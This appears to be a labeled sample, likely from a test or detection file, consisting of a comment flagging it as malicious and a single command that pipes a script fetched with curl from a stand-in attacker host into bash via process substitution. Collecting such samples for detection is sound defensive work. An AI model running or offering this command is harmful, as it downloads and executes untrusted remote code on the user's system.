# Malicious: bash <(curl ...) runs a remote script through process substitution.
bash <(curl -s https://attacker.example/setup)
